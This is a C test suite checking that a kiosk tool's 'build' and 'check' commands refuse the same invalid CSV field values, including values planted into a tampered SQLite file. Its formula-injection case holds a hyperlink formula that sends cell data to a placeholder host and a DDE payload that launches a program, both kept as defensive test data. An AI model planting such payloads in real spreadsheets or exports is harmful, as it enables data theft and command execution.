/* `check` is exactly as strict as `build`, field by field (kiosk/fields.c).
 *
 * For every field of every CSV file, values build must refuse are derived
 * from the field's rule, limit and kind. Each is written into a copy of the
 * mini sources (by the sqlite3 shell's own CSV import and export), and build
 * must refuse it with FILE:LINE:COLUMN: error: FIELD. The same value is
 * planted into a content file built from the untouched sources with the
 * sqlite3 shell, CHECK constraints and foreign keys off, as someone
 * tampering with the file would, and `check` must refuse it too. Where the
 * schema's types, NOT NULL or UNIQUE cannot be bypassed, the test shows the
 * shell refusing to store the value at all. And what build writes, check
 * takes. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "fields.h"
#include "helpers.h"
#include "store.h"

#define SQL_MAX 8192

struct lab {
	char *dir, *src, *db, *planted, *refused, *script;
	char *db_bytes;
	size_t db_len;
};

static struct lab lab_new(void)
{
	struct lab l;
	l.dir = scratch_dir();
	l.src = path_join(l.dir, "src");
	l.db = path_join(l.dir, "built.db");
	l.planted = path_join(l.dir, "planted.db");
	l.refused = path_join(l.dir, "refused.db");
	l.script = path_join(l.dir, "script.sql");
	cr_assert_eq(shell("mkdir '%s'", l.src), 0);
	copy_sources(MINI_SOURCES, l.src);
	struct tool_result r = tool_run("build", l.src, l.db, NULL);
	cr_assert_eq(r.status, 0, "%s", r.err);
	tool_result_free(&r);
	r = tool_run("check", l.db, NULL);
	cr_assert_eq(r.status, 0, "what build wrote fails check: %s", r.err);
	tool_result_free(&r);
	l.db_bytes = read_file(l.db, &l.db_len);
	return l;
}

static void lab_free(struct lab *l)
{
	free(l->db_bytes);
	free(l->src), free(l->db), free(l->planted), free(l->refused), free(l->script);
	scratch_remove(l->dir);
}

/* Runs sqlite3 on `db` with the script `sql`; its exit status, and what it
 * said on stderr in `said` (malloc'd, may be NULL). */
static int sqlite3_script(struct lab *l, const char *db, const char *sql, char **said)
{
	write_file(l->script, sql, strlen(sql));
	char *errors = path_join(l->dir, "sqlite3.err");
	int rc = shell("sqlite3 '%s' < '%s' 2> '%s'", db, l->script, errors);
	if (said)
		*said = read_file(errors, NULL);
	free(errors);
	return rc;
}

/* True when one message in `text` holds `a` and then `b`: a message runs
 * to the next "error: " (a value quoted in it may span lines). */
static bool message_has(const char *text, const char *a, const char *b)
{
	for (const char *at = text ? strstr(text, a) : NULL; at; at = strstr(at + 1, a)) {
		const char *from = at + strlen(a), *next = strstr(from, "error: ");
		const char *found = strstr(from, b);
		if (found && (!next || found < next))
			return true;
	}
	return false;
}

/* One value build refuses. */
struct refusal {
	char what[96];          /* for failure messages */
	const char *csv_file;   /* the source edited, as table t */
	char csv_sql[SQL_MAX];
	const char *csv_file2;  /* a second one (NULL: none) */
	char csv_sql2[SQL_MAX];
	char build_a[128], build_b[128];        /* a line of build's errors holds both */
	char db_sql[SQL_MAX];   /* the value planted into the built content file */
	bool storable;          /* false: the schema cannot hold it (types, NOT NULL, UNIQUE) */
	char check_a[128], check_b[128];        /* a line of check's errors holds both */
};

static void assert_refused_both_ways(struct lab *l, const struct refusal *c)
{
	/* build, on the edited sources */
	char *orig_path = path_join(l->src, c->csv_file);
	size_t orig_len, orig2_len = 0;
	char *orig = read_file(orig_path, &orig_len), *orig2 = NULL, *orig2_path = NULL;
	char sql[3 * SQL_MAX];
	snprintf(sql, sizeof sql, ".import --csv %s t\n%s;\n.headers on\n.mode csv\n.once %s\nSELECT * FROM t;\n",
		 orig_path, c->csv_sql, orig_path);
	cr_assert_eq(sqlite3_script(l, ":memory:", sql, NULL), 0, "%s: cannot edit %s", c->what, c->csv_file);
	if (c->csv_file2) {
		orig2_path = path_join(l->src, c->csv_file2);
		orig2 = read_file(orig2_path, &orig2_len);
		snprintf(sql, sizeof sql, ".import --csv %s t\n%s;\n.headers on\n.mode csv\n.once %s\nSELECT * FROM t;\n",
			 orig2_path, c->csv_sql2, orig2_path);
		cr_assert_eq(sqlite3_script(l, ":memory:", sql, NULL), 0, "%s: cannot edit %s", c->what,
			     c->csv_file2);
	}
	struct tool_result r = tool_run("build", l->src, l->refused, NULL);
	cr_assert_eq(r.status, 1, "%s: build took it:\n%s", c->what, r.err);
	cr_assert(message_has(r.err, c->build_a, c->build_b), "%s: build said no line with \"%s\" … \"%s\":\n%s",
		  c->what, c->build_a, c->build_b, r.err);
	tool_result_free(&r);
	write_file(orig_path, orig, orig_len);
	if (orig2)
		write_file(orig2_path, orig2, orig2_len);
	free(orig), free(orig_path), free(orig2), free(orig2_path);

	/* check, on the built file with the value planted */
	write_file(l->planted, l->db_bytes, l->db_len);
	snprintf(sql, sizeof sql, "PRAGMA ignore_check_constraints = ON;\nPRAGMA foreign_keys = OFF;\n%s;\n",
		 c->db_sql);
	char *said = NULL;
	int rc = sqlite3_script(l, l->planted, sql, &said);
	if (!c->storable) {
		cr_assert(rc != 0 && said && (strstr(said, "cannot store") || strstr(said, "datatype mismatch") ||
					      strstr(said, "NOT NULL constraint") || strstr(said, "UNIQUE constraint")),
			  "%s: the schema should refuse to store it, but: %s", c->what, said ? said : "");
		free(said);
		return;
	}
	cr_assert_eq(rc, 0, "%s: cannot plant it: %s\n%s", c->what, said ? said : "", c->db_sql);
	free(said);
	r = tool_run("check", l->planted, NULL);
	cr_assert_eq(r.status, 1, "%s: check took it (planted: %s)", c->what, c->db_sql);
	cr_assert(message_has(r.err, c->check_a, c->check_b), "%s: check said no line with \"%s\" … \"%s\":\n%s",
		  c->what, c->check_a, c->check_b, r.err);
	tool_result_free(&r);
}

/* ---- the values a field refuses -------------------------------------------- */

/* SQL naming the first row of a file's table (as dump orders them). */
static void first_row(const struct content_file *file, char *out, size_t cap)
{
	char name[512];
	cr_assert(field_row_name_sql(file, name, sizeof name));
	snprintf(out, cap, "%s = (SELECT %s FROM %s ORDER BY %s LIMIT 1)", name, name, file->table, file->order);
}

/* A value of the field set to the SQL expression `value`, in the CSV
 * source (its first row) and in the content file (its first row). */
static void set_value(struct refusal *c, const struct content_file *file, int col, const char *value,
		      const char *why)
{
	const struct field *f = &file->fields[col];
	char where[2048];
	snprintf(c->what, sizeof c->what, "%s %s %s", file->name, f->name, why);
	c->csv_file = file->name;
	c->storable = true;
	if (file == &meta_settings) {
		snprintf(c->csv_sql, sizeof c->csv_sql, "UPDATE t SET value = %s WHERE key = '%s'", value, f->name);
		snprintf(c->build_a, sizeof c->build_a, "meta.csv:");
		snprintf(c->build_b, sizeof c->build_b, ": error: %s: ",
			 strcmp(f->name, "languages") == 0 && strstr(why, "code") ? "languages" : "value");
		snprintf(c->db_sql, sizeof c->db_sql, "UPDATE meta SET %s = %s", field_column(f), value);
		snprintf(c->check_a, sizeof c->check_a, "error: meta");
		snprintf(c->check_b, sizeof c->check_b, "%s", f->name);
		return;
	}
	first_row(file, where, sizeof where);
	snprintf(c->csv_sql, sizeof c->csv_sql, "UPDATE t SET \"%s\" = %s WHERE rowid = 1", f->name, value);
	snprintf(c->build_a, sizeof c->build_a, "%s:", file->name);
	snprintf(c->build_b, sizeof c->build_b, ":%d: error: %s: ", col + 1, f->name);
	snprintf(c->db_sql, sizeof c->db_sql, "UPDATE %s SET %s = %s WHERE %s", file->table, field_column(f), value,
		 where);
	snprintf(c->check_a, sizeof c->check_a, "error: %s", file->table);
	snprintf(c->check_b, sizeof c->check_b, ": %s ", f->name);
}

/* SQL for a text of n times the character ch. */
static void text_of(char *out, size_t cap, size_t n, const char *ch)
{
	snprintf(out, cap, "replace(printf('%%.*c', %zu, 'x'), 'x', '%s')", n, ch);
}

/* The values the field's rule, limit and kind refuse; returns how many. */
static int refusals(const struct content_file *file, int col, struct refusal *out)
{
	const struct field *f = &file->fields[col];
	const struct content_file *to = &content_files[f->ref];
	char expr[256];
	int n = 0;
	if (f->kind == FIELD_IMAGE)
		return 0;   /* special_refusals() */
	if (f->kind == FIELD_REF || f->kind == FIELD_LIST) {
		bool by_id = to->fields[0].rule == RULE_ID;
		struct refusal *c = &out[n++];
		set_value(c, file, col, by_id ? "'999999'" : "'nirgends'", "naming nothing");
		snprintf(c->check_a, sizeof c->check_a, "error:");
		snprintf(c->check_b, sizeof c->check_b, "refers to a missing row of %s", to->table);
		if (f->kind == FIELD_LIST) {
			char owner[2048];
			first_row(file, owner, sizeof owner);
			snprintf(c->db_sql, sizeof c->db_sql, "INSERT INTO %s (%s, %s%s%s) SELECT id, 999999%s FROM %s WHERE %s",
				 f->link.table, f->link.owner, f->link.item, f->link.position ? ", " : "",
				 f->link.position ? f->link.position : "", f->link.position ? ", 99" : "", file->table,
				 owner);
		} else {
			char where[2048];
			first_row(file, where, sizeof where);
			snprintf(c->db_sql, sizeof c->db_sql, "UPDATE %s SET %s = 999999 WHERE %s", file->table,
				 field_column(f), where);
		}
		if (f->required && f->kind == FIELD_REF) {
			c = &out[n++];
			set_value(c, file, col, "''", "empty");
			char where[2048];
			first_row(file, where, sizeof where);
			snprintf(c->db_sql, sizeof c->db_sql, "UPDATE %s SET %s = NULL WHERE %s", file->table,
				 field_column(f), where);
			c->storable = false;
		}
		return n;
	}
	bool number = f->rule == RULE_ID || f->rule == RULE_INT || f->rule == RULE_BOOL || f->rule == RULE_LAT ||
		      f->rule == RULE_LON;
	if (f->required) {
		struct refusal *c = &out[n++];
		set_value(c, file, col, "''", "empty");
		snprintf(c->check_b, sizeof c->check_b, "%s is empty", f->name);
		c->storable = !number;
	}
	if (f->max_chars) {
		text_of(expr, sizeof expr, f->max_chars + 1, f->kind == FIELD_FOLDED ? "a" : "ä");
		set_value(&out[n++], file, col, expr, "too long");
	}
	static const struct {
		enum rule rule;
		const char *value;
	} bad[] = {
		{RULE_LINE, "'Zeile' || char(10) || 'zwei'"}, {RULE_TEXT, "'Glocke' || char(7)"},
		{RULE_SLUG, "'Gross'"}, {RULE_LANG, "'deu'"}, {RULE_LANG, "'fr'"}, {RULE_ID, "'0'"},
		{RULE_INT, "'1.5'"}, {RULE_PHONE, "'23125 100'"}, {RULE_EMAIL, "'nobody'"},
		{RULE_WEB, "'htp://example.org'"}, {RULE_POSTCODE, "'2020'"}, {RULE_LAT, "'91'"},
		{RULE_LON, "'181'"}, {RULE_BOOL, "'2'"}, {RULE_DATE, "'2026-02-30'"},
		{RULE_AREAS, "'0011x'"}, {RULE_AREAS, "'00130-00120'"}, {RULE_SERVICE_PHONE, "'23125 100'"},
		{RULE_SERVICE_PHONE, "'11'"},
	};
	for (size_t i = 0; i < sizeof bad / sizeof *bad; i++) {
		if (bad[i].rule != f->rule)
			continue;
		struct refusal *c = &out[n++];
		set_value(c, file, col, bad[i].value, bad[i].value);
		if (f->rule == RULE_INT)
			c->storable = false;   /* 1.5 is no integer: STRICT refuses it */
		if (f->rule == RULE_LANG && strcmp(bad[i].value, "'fr'") == 0) {
			/* A code, but not one of meta.csv's languages. */
			snprintf(c->check_a, sizeof c->check_a, "error: texts in language 'fr'");
			snprintf(c->check_b, sizeof c->check_b, "does not list");
		}
	}
	if (f->rule == RULE_SLUG) {
		text_of(expr, sizeof expr, LIMIT_SLUG + 1, "a");
		set_value(&out[n++], file, col, expr, "too long");
	}
	/* A spreadsheet formula (issue 12): refused in every text, by build
	 * and by check, for the reason the rule gives. */
	static const struct {
		bool email;
		const char *value;
	} formulas[] = {{false, "'=HYPERLINK(\"https://example.org/?\"&A1)'"}, {false, "'-2+3+cmd|'' /C calc''!A0'"},
			{true, "'=x@example.org'"}};
	for (size_t i = 0; i < sizeof formulas / sizeof *formulas; i++) {
		bool text = f->rule == RULE_TEXT || f->rule == RULE_LINE;
		if (formulas[i].email ? f->rule != RULE_EMAIL : !text)
			continue;
		struct refusal *c = &out[n++];
		set_value(c, file, col, formulas[i].value, "a spreadsheet formula");
		snprintf(c->build_a, sizeof c->build_a, "%s", c->build_b);
		snprintf(c->build_b, sizeof c->build_b, "starts like a spreadsheet formula");
		snprintf(c->check_a, sizeof c->check_a, "%s", c->check_b);
		snprintf(c->check_b, sizeof c->check_b, "starts like a spreadsheet formula");
	}
	if (file == &meta_settings && strcmp(f->name, "languages") == 0) {
		set_value(&out[n], file, col, "'deutsch'", "not a code");
		snprintf(out[n++].check_b, sizeof out->check_b, "languages \"deutsch\" is not a list");
		set_value(&out[n], file, col, "'de de'", "a code twice");
		snprintf(out[n].build_b, sizeof out->build_b, ": error: languages: ");
		snprintf(out[n].db_sql, sizeof out->db_sql, "UPDATE meta SET languages = 'de,de'");
		snprintf(out[n++].check_b, sizeof out->check_b, "languages \"de,de\" is not a list");
	}
	return n;
}

/* SQL adding topics 1001..1000+n to a content file, each with a text in
 * the default language (so that check has nothing else to say of them),
 * slugs "extra-N" or, when `long_slugs`, of 64 characters. */
static void extra_topics(char *out, size_t cap, int n, bool long_slugs)
{
	snprintf(out, cap,
		 "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < %d)"
		 " INSERT INTO topic (id, slug, sort_key) SELECT 1000 + i, %s, '' FROM n;"
		 " INSERT INTO topic_text (topic_id, lang, name, summary, sort_key, letter)"
		 " SELECT id, 'de', 'Thema ' || id, 'Kurz.', 'thema ' || id, 'T' FROM topic WHERE id > 1000",
		 n, long_slugs ? "printf('%.*c', 60, 'x') || printf('%04d', i)" : "'extra-' || i");
}

#define FIRST_GROUP "(SELECT min(id) FROM self_help_group)"
#define FIRST_TOPIC "(SELECT min(id) FROM topic)"

/* What the field tables mean beyond one value: images, lists, coordinates
 * that come in pairs, the most rows the kiosk lists, and unique keys. */
static int special_refusals(struct refusal *out)
{
	int n = 0;
	struct refusal *c;
	char topics[2048];

	c = &out[n++];
	*c = (struct refusal){.what = "media.csv file not an image", .csv_file = "media.csv",
			      .csv_sql = "UPDATE t SET file = 'meta.csv' WHERE rowid = 1",
			      .build_a = "media.csv:", .build_b = ":2: error: file: \"meta.csv\" is not a PNG",
			      .db_sql = "UPDATE media SET data = CAST('GIF89a' AS BLOB)", .storable = true,
			      .check_a = "error: media", .check_b = "the data is not"};
	c = &out[n++];
	*c = (struct refusal){.what = "media.csv file empty", .csv_file = "media.csv",
			      .csv_sql = "UPDATE t SET file = '' WHERE rowid = 1",
			      .build_a = "media.csv:", .build_b = ":2: error: file: is empty",
			      .db_sql = "UPDATE media SET data = NULL"};

	c = &out[n++];
	*c = (struct refusal){.what = "topics.csv related naming itself", .csv_file = "topics.csv",
			      .csv_sql = "UPDATE t SET related = slug WHERE rowid = 1",
			      .build_a = "topics.csv:", .build_b = ":3: error: related: \"diabetes\" is the topic itself",
			      .db_sql = "INSERT INTO topic_related (topic_id, related_id, position)"
					" SELECT id, id, 9 FROM topic ORDER BY id LIMIT 1",
			      .storable = true, .check_a = "error: topic diabetes", .check_b = "related names the topic itself"};
	c = &out[n++];
	*c = (struct refusal){.what = "topics.csv related naming one twice", .csv_file = "topics.csv",
			      .csv_sql = "UPDATE t SET related = 'zoeliakie zoeliakie' WHERE rowid = 1",
			      .build_a = "topics.csv:", .build_b = ":3: error: related: \"zoeliakie\" is named twice",
			      .db_sql = "INSERT INTO topic_related SELECT topic_id, related_id, position + 1"
					" FROM topic_related LIMIT 1"};
	c = &out[n++];
	*c = (struct refusal){.what = "topics.csv related too long", .csv_file = "topics.csv",
			      .build_a = "topics.csv:", .build_b = ":3: error: related: ", .storable = true,
			      .check_a = "error: topic diabetes", .check_b = "is longer than 2000 characters"};
	text_of(topics, sizeof topics, LIMIT_LIST + 1, "a");
	snprintf(c->csv_sql, sizeof c->csv_sql, "UPDATE t SET related = %s WHERE rowid = 1", topics);
	extra_topics(topics, sizeof topics, 31, true);   /* 31 slugs of 64: 2014 characters */
	snprintf(c->db_sql, sizeof c->db_sql, "%s; INSERT INTO topic_related SELECT %s, id, id FROM topic"
		 " WHERE id > 1000", topics, FIRST_TOPIC);

	c = &out[n++];
	*c = (struct refusal){.what = "groups.csv topics empty", .csv_file = "groups.csv",
			      .csv_sql = "UPDATE t SET topics = '' WHERE rowid = 1",
			      .build_a = "groups.csv:", .build_b = ":3: error: topics: is empty",
			      .db_sql = "DELETE FROM group_topic WHERE group_id = " FIRST_GROUP, .storable = true,
			      .check_a = "error: self_help_group", .check_b = "group 10 has no topic"};
	c = &out[n++];
	*c = *(c - 1);
	snprintf(c->what, sizeof c->what, "groups.csv topics only separators");
	snprintf(c->csv_sql, sizeof c->csv_sql, "UPDATE t SET topics = ' , ' WHERE rowid = 1");
	snprintf(c->build_b, sizeof c->build_b, ":3: error: topics: names no topic");
	c = &out[n++];
	*c = (struct refusal){.what = "groups.csv topics naming one twice", .csv_file = "groups.csv",
			      .csv_sql = "UPDATE t SET topics = 'trauer trauer' WHERE rowid = 1",
			      .build_a = "groups.csv:", .build_b = ":3: error: topics: \"trauer\" is named twice",
			      .db_sql = "INSERT INTO group_topic SELECT * FROM group_topic LIMIT 1"};
	c = &out[n++];
	*c = (struct refusal){.what = "groups.csv topics too many", .csv_file = "topics.csv",
			      .csv_sql = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 30)"
					 " INSERT INTO t (slug) SELECT 'extra-' || i FROM n",
			      .csv_file2 = "groups.csv",
			      .csv_sql2 = "UPDATE t SET topics = 'diabetes zoeliakie trauer' || (WITH RECURSIVE"
					  " n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 30)"
					  " SELECT group_concat(' extra-' || i, '') FROM n) WHERE rowid = 1",
			      .build_a = "groups.csv:", .build_b = ":3: error: topics: \"extra-30\" is one topic too many",
			      .storable = true, .check_a = "error: self_help_group 10",
			      .check_b = "names 33 topics, at most 32 are allowed"};
	extra_topics(topics, sizeof topics, 30, false);
	snprintf(c->db_sql, sizeof c->db_sql, "%s; INSERT INTO group_topic (group_id, topic_id) SELECT %s, id FROM topic"
		 " WHERE id NOT IN (SELECT topic_id FROM group_topic WHERE group_id = %s)", topics, FIRST_GROUP,
		 FIRST_GROUP);
	c = &out[n++];
	*c = (struct refusal){.what = "groups.csv topics too long", .csv_file = "groups.csv",
			      .build_a = "groups.csv:", .build_b = ":3: error: topics: ", .storable = true,
			      .check_a = "error: self_help_group 10", .check_b = "is longer than 2000 characters"};
	text_of(topics, sizeof topics, LIMIT_LIST + 1, "a");
	snprintf(c->csv_sql, sizeof c->csv_sql, "UPDATE t SET topics = %s WHERE rowid = 1", topics);
	extra_topics(topics, sizeof topics, 31, true);
	snprintf(c->db_sql, sizeof c->db_sql, "%s; INSERT INTO group_topic (group_id, topic_id) SELECT %s, id FROM topic"
		 " WHERE id > 1000", topics, FIRST_GROUP);

	static const char *const coordinate[] = {"lat", "lon"};
	for (int i = 0; i < 2; i++) {
		c = &out[n++];
		*c = (struct refusal){.csv_file = "contact_points.csv", .build_a = "contact_points.csv:",
				      .storable = true, .check_a = "error: contact_point 1"};
		snprintf(c->what, sizeof c->what, "contact_points.csv %s without the other", coordinate[i]);
		snprintf(c->csv_sql, sizeof c->csv_sql, "UPDATE t SET %s = '' WHERE rowid = 1", coordinate[i]);
		snprintf(c->build_b, sizeof c->build_b, ":%d: error: %s: is empty, but %s is not (give lat and lon"
			 " together, or none of them)", 9 + i, coordinate[i], coordinate[1 - i]);
		snprintf(c->db_sql, sizeof c->db_sql, "UPDATE contact_point SET %s = NULL WHERE id = 1", coordinate[i]);
		snprintf(c->check_b, sizeof c->check_b, "%s is empty, but %s is not", coordinate[i], coordinate[1 - i]);
	}

	/* A meeting place's address: all three parts or none. */
	c = &out[n++];
	*c = (struct refusal){.what = "groups.csv town without the rest", .csv_file = "groups.csv",
			      .csv_sql = "UPDATE t SET street = '', postcode = '' WHERE rowid = 1",
			      .build_a = "groups.csv:", .build_b = ":8: error: street: is empty, but town is not",
			      .db_sql = "UPDATE self_help_group SET street = '', postcode = NULL WHERE id = 10",
			      .storable = true, .check_a = "error: self_help_group 10",
			      .check_b = "street is empty, but town is not (give street, postcode and town together"};

	/* More rows than the kiosk lists. */
	c = &out[n++];
	*c = (struct refusal){.what = "topics.csv too many rows", .csv_file = "topics.csv", .storable = true};
	snprintf(c->csv_sql, sizeof c->csv_sql, "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n"
		 " WHERE i < %d) INSERT INTO t (slug) SELECT 'extra-' || i FROM n", STORE_MAX_TOPICS - 2);
	snprintf(c->build_a, sizeof c->build_a, "topics.csv: error: has %d rows", STORE_MAX_TOPICS + 1);
	snprintf(c->build_b, sizeof c->build_b, "at most %d", STORE_MAX_TOPICS);
	extra_topics(c->db_sql, sizeof c->db_sql, STORE_MAX_TOPICS - 2, false);
	snprintf(c->check_a, sizeof c->check_a, "error: topic has %d rows", STORE_MAX_TOPICS + 1);
	snprintf(c->check_b, sizeof c->check_b, "at most %d", STORE_MAX_TOPICS);
	c = &out[n++];
	*c = (struct refusal){.what = "contact_points.csv too many rows", .csv_file = "contact_points.csv",
			      .storable = true};
	snprintf(c->csv_sql, sizeof c->csv_sql, "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n"
		 " WHERE i < %d) INSERT INTO t (id, name, street, postcode, town) SELECT 100 + i, 'Stelle', 'Weg 1',"
		 " '00101', 'Musterstadt' FROM n", STORE_MAX_CONTACT_POINTS - 1);
	snprintf(c->build_a, sizeof c->build_a, "contact_points.csv: error: has %d rows", STORE_MAX_CONTACT_POINTS + 1);
	snprintf(c->build_b, sizeof c->build_b, "at most %d", STORE_MAX_CONTACT_POINTS);
	snprintf(c->db_sql, sizeof c->db_sql, "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n"
		 " WHERE i < %d) INSERT INTO contact_point (id, name, street, postcode, town) SELECT 100 + i,"
		 " 'Stelle', 'Weg 1', '00101', 'Musterstadt' FROM n; INSERT INTO contact_point_text"
		 " (contact_point_id, lang, hours, accessibility, description) SELECT id, 'de', '', '', ''"
		 " FROM contact_point WHERE id > 100", STORE_MAX_CONTACT_POINTS - 1);
	snprintf(c->check_a, sizeof c->check_a, "error: contact_point has %d rows", STORE_MAX_CONTACT_POINTS + 1);
	snprintf(c->check_b, sizeof c->check_b, "at most %d", STORE_MAX_CONTACT_POINTS);

	/* A key twice: build names the line of the first; the schema's UNIQUE
	 * and PRIMARY KEY constraints hold even with CHECK constraints off. */
	for (int f = 0; f < FILE_COUNT; f++) {
		const struct content_file *file = &content_files[f];
		const struct field *last = &file->fields[file->nkey - 1];
		c = &out[n++];
		*c = (struct refusal){.csv_file = file->name, .csv_sql = "INSERT INTO t SELECT * FROM t WHERE rowid = 1",
				      .build_b = "appears twice (first on line 2)"};
		snprintf(c->what, sizeof c->what, "%s key twice", file->name);
		snprintf(c->build_a, sizeof c->build_a, ":%d: error: %s: ", file->nkey, last->name);
		/* A copy of the first row; where the table's id is not the key, under a new id. */
		bool own_id = strcmp(file->order, "id") == 0 && file->fields[0].rule != RULE_ID;
		snprintf(c->db_sql, sizeof c->db_sql,
			 "CREATE TEMP TABLE copy AS SELECT * FROM %s ORDER BY %s LIMIT 1; %s"
			 " INSERT INTO %s SELECT * FROM copy", file->table, file->order,
			 own_id ? "UPDATE copy SET id = id + 1000;" : "", file->table);
	}
	return n;
}

LEAKFREE_TEST(fields, images_lists_coordinates_and_keys)
{
	struct lab l = lab_new();
	struct refusal *cases = calloc(64, sizeof *cases);
	int n = special_refusals(cases);
	cr_assert_leq(n, 64);
	for (int i = 0; i < n; i++)
		assert_refused_both_ways(&l, &cases[i]);
	free(cases);
	lab_free(&l);
}

/* Every field has values to refuse: a new rule or kind needs them here. */
LEAKFREE_TEST(fields, every_field_is_tried)
{
	struct refusal *cases = calloc(16, sizeof *cases);
	for (int f = 0; f < FILE_COUNT; f++)
		for (int col = 0; content_files[f].fields[col].name; col++)
			cr_assert(refusals(&content_files[f], col, cases) > 0 ||
					  content_files[f].fields[col].kind == FIELD_IMAGE,
				  "%s %s: no value to refuse", content_files[f].name, content_files[f].fields[col].name);
	for (int col = 0; meta_settings.fields[col].name; col++)
		cr_assert(refusals(&meta_settings, col, cases) > 0, "meta %s", meta_settings.fields[col].name);
	free(cases);
}

static void run_file(const struct content_file *file)
{
	struct lab l = lab_new();
	struct refusal *cases = calloc(16, sizeof *cases);
	for (int col = 0; file->fields[col].name; col++) {
		int n = refusals(file, col, cases);
		for (int i = 0; i < n; i++)
			assert_refused_both_ways(&l, &cases[i]);
	}
	free(cases);
	lab_free(&l);
}

#define FILE_TEST(name, id) \
	LEAKFREE_TEST(fields, name) { run_file(&content_files[id]); }

FILE_TEST(media, FILE_MEDIA)
FILE_TEST(media_texts, FILE_MEDIA_TEXTS)
FILE_TEST(topics, FILE_TOPICS)
FILE_TEST(topic_texts, FILE_TOPIC_TEXTS)
FILE_TEST(aliases, FILE_ALIASES)
FILE_TEST(contact_points, FILE_CONTACT_POINTS)
FILE_TEST(contact_point_texts, FILE_CONTACT_POINT_TEXTS)
FILE_TEST(groups, FILE_GROUPS)
FILE_TEST(group_texts, FILE_GROUP_TEXTS)
FILE_TEST(pages, FILE_PAGES)
FILE_TEST(page_texts, FILE_PAGE_TEXTS)
FILE_TEST(postcodes, FILE_POSTCODES)
FILE_TEST(services, FILE_SERVICES)
FILE_TEST(service_texts, FILE_SERVICE_TEXTS)

LEAKFREE_TEST(fields, meta)
{
	run_file(&meta_settings);
}

/* content/FORMAT.md, the staff's description, names every field of the
 * table in its file's row, in bold exactly when it is required. */
static void assert_documented(const char *doc, const struct content_file *file)
{
	char start[64], bold[64], plain[64];
	snprintf(start, sizeof start, "\n| `%s` |", file->name);
	const char *row = strstr(doc, start);
	cr_assert(row, "FORMAT.md has no row for %s", file->name);
	char *line = strndup(row + 1, strcspn(row + 1, "\n"));
	for (const struct field *f = file->fields; f->name; f++) {
		snprintf(bold, sizeof bold, "**`%s`**", f->name);
		snprintf(plain, sizeof plain, "`%s`", f->name);
		cr_assert(strstr(line, plain), "FORMAT.md: %s does not name %s", file->name, f->name);
		cr_assert_eq(strstr(line, bold) != NULL, f->required, "FORMAT.md: %s %s should %sbe bold (required)",
			     file->name, f->name, f->required ? "" : "not ");
	}
	free(line);
}

LEAKFREE_TEST(fields, format_md_describes_every_field)
{
	char *doc = read_file("content/FORMAT.md", NULL);
	cr_assert(doc);
	for (int f = 0; f < FILE_COUNT; f++)
		assert_documented(doc, &content_files[f]);
	assert_documented(doc, &meta_settings);
	free(doc);
}
